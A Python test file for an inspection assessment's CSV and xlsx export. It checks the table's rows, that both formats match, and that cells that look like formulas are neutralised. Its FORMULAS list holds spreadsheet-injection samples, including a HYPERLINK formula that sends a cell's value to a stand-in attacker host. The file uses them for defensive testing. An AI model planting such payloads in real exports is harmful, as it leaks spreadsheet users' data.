"""The annual assessment's table from the seed campaign's views: one row per planned unit,
every input the views hold and nothing else, the same in CSV and in xlsx."""

from __future__ import annotations

import csv
import io

import pytest

from inspections.asking import assessment, sheets
from kernel.vocabulary import BREACH_KINDS, CATEGORIES


@pytest.fixture(scope="module")
def seed_views():
    from tests.unit import seeded

    return seeded.views()


def _table(views, year=2026):
    campaigns = list(views["campaigns"].values())
    unit_views = {u["unit_id"]: {"visits": u["visits"]} for c in campaigns for u in c["units"]}
    return assessment.rows(year, views["assessments"][str(year)], unit_views,
                           assessment.planned_units(campaigns, year))


def test_one_row_per_planned_unit_with_the_views_inputs(seed_views):
    table = _table(seed_views)
    assert len(table) == 16
    assessed = {a["unit_id"]: a for a in seed_views["assessments"]["2026"]["units"]}
    units = {u["unit_id"]: u for c in seed_views["campaigns"].values() for u in c["units"]}
    for row in table:
        a, unit = assessed[row["unit_id"]], units[row["unit_id"]]
        assert list(row) == assessment.columns()
        assert (row["unit_name"], row["unit_kind"]) == (unit["name"], unit["kind"])
        assert row["findings"] == a["findings"] == sum(row[f"findings_{c}"] for c in CATEGORIES)
        assert {k: row[f"breaches_{k}"] for k in BREACH_KINDS if row[f"breaches_{k}"]} == \
            a["breaches_by_kind"]
        assert (row["rectified_share"], row["report"], row["visit_done"]) == \
            (a["rectified_share"], a["report"], a["visit_done"])
        (visit,) = unit["visits"]
        assert (row["visit_id"], row["days_on_site"], row["required_days"]) == \
            (visit["visit_id"], visit["days_on_site"], visit["required_days"])
        for kind, c in visit["coverage"].items():
            assert (row[f"{kind}_visited"], row[f"{kind}_met"]) == (c["visited"], c["met"])
    assert not any("score" in c for c in assessment.columns())
    # The seed's campaign has a short visit and a late report somewhere: the table shows them.
    assert any(r["breaches_visit_too_short"] for r in table)
    assert {r["report"] for r in table} >= {"on_time", "late"}


def test_csv_and_xlsx_hold_the_same_cells(seed_views, tmp_path):
    from openpyxl import load_workbook

    table = _table(seed_views)
    raw = assessment.export(table, 2026, "csv")
    assert raw.startswith("\ufeff".encode())  # a spreadsheet reads the names as UTF-8
    read = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [r["unit_id"] for r in read] == [r["unit_id"] for r in table]
    assert read[0]["unit_name"] == table[0]["unit_name"]
    book = load_workbook(io.BytesIO(assessment.export(table, 2026, "xlsx")))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    assert header == assessment.columns()
    cells = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert cells == [[r[c] for c in header] for r in table]
    for text_row, row in zip(read, table):
        assert text_row == {k: "" if v is None else str(v) for k, v in row.items()}


def test_a_year_without_campaign_or_findings_is_an_empty_table():
    assert assessment.rows(2031, {"units": []}, {}, {}) == []
    with pytest.raises(ValueError, match="csv or xlsx"):
        assessment.export([], 2031, "pdf")


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1+2", "-3+4",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _hostile_table(seed_views):
    """The seed's table with ids and names from an upstream system that means harm."""
    table = [dict(r) for r in _table(seed_views)[:len(FORMULAS)]]
    for row, text in zip(table, FORMULAS):
        row["unit_id"], row["unit_name"], row["visit_id"] = text, text + "名", text
    table[0]["days_on_site"] = -1  # a number stays a number, whatever its sign
    return table


def test_a_csv_cell_that_a_spreadsheet_would_read_as_a_formula_is_written_as_text(seed_views):
    table = _hostile_table(seed_views)
    read = list(csv.DictReader(io.StringIO(
        assessment.export(table, 2026, "csv").decode("utf-8-sig"))))
    for text_row, text in zip(read, FORMULAS):
        for column in ("unit_id", "unit_name", "visit_id"):
            assert text_row[column].startswith("'"), (column, text_row[column])
        assert text_row["unit_id"] == "'" + text  # the text itself is kept after the quote
    assert read[0]["days_on_site"] == "-1"
    # An ordinary text is left alone.
    plain = list(csv.DictReader(io.StringIO(
        assessment.export(_table(seed_views), 2026, "csv").decode("utf-8-sig"))))
    assert not any(v.startswith("'") for r in plain for v in r.values())


def test_an_xlsx_cell_that_begins_like_a_formula_is_a_string_cell(seed_views):
    import zipfile

    from openpyxl import load_workbook

    table = _hostile_table(seed_views)
    raw = assessment.export(table, 2026, "xlsx")
    sheet = load_workbook(io.BytesIO(raw)).active
    header = [c.value for c in sheet[1]]
    for cells, row in zip(sheet.iter_rows(min_row=2), table):
        for cell, column in zip(cells, header):
            assert cell.data_type != "f", (column, cell.value)
            if isinstance(row[column], str):
                # (XML reads a carriage return back as a line feed)
                assert (cell.data_type, cell.value) == ("s", row[column].replace("\r", "\n"))
                assert cell.quotePrefix == row[column].startswith(sheets.FORMULA_START)
    assert sheet.cell(2, header.index("days_on_site") + 1).value == -1
    # And in the file itself: no formula element anywhere.
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        assert not any(b"<f>" in book.read(n) or b"<f " in book.read(n)
                       for n in book.namelist() if n.endswith(".xml"))
